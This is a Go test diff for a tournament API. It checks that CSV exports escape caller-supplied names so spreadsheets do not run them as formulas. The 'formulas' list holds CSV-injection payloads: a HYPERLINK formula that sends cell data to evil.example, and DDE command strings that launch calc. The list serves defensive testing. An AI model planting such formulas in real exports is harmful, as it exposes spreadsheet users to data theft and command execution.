@@ -1,11 +1,15 @@
 package httpapi_test
 
 import (
+	"bytes"
+	"encoding/csv"
 	"io"
 	"net/http"
+	"strconv"
 	"strings"
 	"testing"
 
+	"github.com/xqtour/xqtour/shared/httpapi"
 	"github.com/xqtour/xqtour/shared/httpapi/apitest"
 )
 
@@ -95,5 +99,126 @@ func TestImportedPGNTagsRefuseControlCharacters(t *testing.T) {
 	rec := s.Get("/games/"+out.Games[1].ID+"/record?format=pgn").Want(t, http.StatusOK)
 	if !strings.Contains(string(rec.Body), `[Red "Li"]`) || strings.ContainsAny(string(rec.Body), "\x1b\r") {
 		t.Fatalf("export of the clean game: %q", rec.Body)
+	}
+}
+
+// formulas are cell texts a spreadsheet runs (CSV injection): every text a
+// caller sets that reaches a CSV is set to one of them.
+var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}
+
+// formulaEvent creates an event with settings and n players (or teams of
+// boards players) whose names, clubs and team names are all formulas, and
+// plays it to its end (or maxRounds), every game won by red.
+func formulaEvent(t *testing.T, s *apitest.Server, settings string, n, boards, maxRounds int) string {
+	t.Helper()
+	ev := newEvent(t, s, settings)
+	arb := s.Post("/tournaments/"+ev.ID+"/officials", ev.Token, map[string]any{"role": "arbiter", "name": formulas[0]}).Want(t, http.StatusCreated).JSON()["token"].(string)
+	for i := range n {
+		name := formulas[i%len(formulas)] + strconv.Itoa(i)
+		club := formulas[(i+1)%len(formulas)] + strconv.Itoa(i%2)
+		if boards == 0 {
+			s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name, "club": club, "rating": 2000 - i}).Want(t, http.StatusCreated)
+			continue
+		}
+		var members []map[string]any
+		for j := range boards {
+			members = append(members, map[string]any{"name": formulas[j%len(formulas)] + strconv.Itoa(10*i+j), "club": club, "rating": 2000 - 10*i - j})
+		}
+		s.Post("/tournaments/"+ev.ID+"/teams", ev.Token, map[string]any{"name": name, "members": members}).Want(t, http.StatusCreated)
+	}
+	for round := 1; round <= maxRounds; round++ {
+		r := s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, map[string]any{"round": round})
+		if r.Status == http.StatusUnprocessableEntity && r.ErrorCode() == "event_complete" {
+			break
+		}
+		r.Want(t, http.StatusCreated)
+		for played := false; !played; {
+			var rd roundJSON
+			s.Get("/tournaments/"+ev.ID+"/rounds/"+strconv.Itoa(round)).Want(t, http.StatusOK).Decode(t, &rd)
+			played = true
+			for _, p := range rd.Pairings {
+				if p.Result == nil && p.GameID != "" {
+					s.Post("/games/"+p.GameID+"/result", arb, map[string]any{"result": "1-0"}).Want(t, http.StatusOK)
+					played = false // a knockout may add games as results come in
+				}
+			}
+		}
+	}
+	return ev.ID
+}
+
+// Every CSV the API writes keeps every cell a caller controls as text: the
+// test walks every public route of an event with ?format=csv (and every
+// ?view= of the standings) over an individual Swiss with clubs, a team
+// round robin, a groups event and a team knockout whose every name is a
+// formula, and no cell of any answer starts with = + - @ tab or CR unless
+// it is a plain number. The clubs table's team id column (a club's name)
+// was written raw.
+func TestEveryCSVCellACallerControlsIsText(t *testing.T) {
+	s := apitest.New(t)
+	events := []string{
+		formulaEvent(t, s, `{"name":"=Swiss","rounds":3}`, 6, 0, 3),
+		formulaEvent(t, s, `{"name":"=Teams","system":"roundRobin","teams":true,"boards":2}`, 3, 2, 9),
+		formulaEvent(t, s, `{"name":"=Groups","system":"groups","groups":{"count":2,"finals":"samePlace"}}`, 6, 0, 9),
+		formulaEvent(t, s, `{"name":"=Knockout","system":"knockout","teams":true,"boards":2}`, 4, 2, 9),
+	}
+	answered := map[string]bool{}
+	for _, tid := range events {
+		for _, rt := range httpapi.Routes {
+			if rt.Method != "GET" || !rt.Who.Has(httpapi.RolePublic) || !strings.Contains(rt.Path, "{tid}") {
+				continue
+			}
+			path := strings.NewReplacer("{tid}", tid, "{n}", "1").Replace(rt.Path)
+			if strings.Contains(path, "{") {
+				continue
+			}
+			views := []string{""}
+			if strings.HasSuffix(rt.Path, "/standings") {
+				views = []string{"", "players", "teams", "boards", "teamsByPlaces", "overall"}
+			}
+			for _, view := range views {
+				q := "?format=csv"
+				if view != "" {
+					q += "&view=" + view
+				}
+				r := s.Do(apitest.Req{Method: "GET", Path: path + q, Invalid: true})
+				if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
+					continue
+				}
+				answered[rt.Path+q] = true
+				rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
+				if err != nil {
+					t.Fatalf("%s%s: %v", path, q, err)
+				}
+				escaped := 0
+				for _, row := range rows {
+					for _, cell := range row {
+						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+							if _, err := strconv.ParseFloat(cell, 64); err != nil {
+								t.Errorf("%s%s: cell %q would run as a formula", rt.Path, q, cell)
+							}
+						}
+						for _, f := range formulas {
+							if strings.HasPrefix(cell, "'"+f) {
+								escaped++
+							}
+						}
+					}
+				}
+				if escaped == 0 {
+					t.Errorf("%s%s: no name reached the CSV: %s", rt.Path, q, r.Body)
+				}
+			}
+		}
+	}
+	for _, want := range []string{
+		"/tournaments/{tid}/standings?format=csv", "/tournaments/{tid}/standings?format=csv&view=teamsByPlaces",
+		"/tournaments/{tid}/standings?format=csv&view=teams", "/tournaments/{tid}/standings?format=csv&view=boards",
+		"/tournaments/{tid}/standings?format=csv&view=overall", "/tournaments/{tid}/crosstable?format=csv",
+		"/tournaments/{tid}/rounds/{n}?format=csv", "/tournaments/{tid}/ratings?format=csv",
+	} {
+		if !answered[want] {
+			t.Errorf("%s was never answered as CSV: the walk missed a table", want)
+		}
 	}
 }
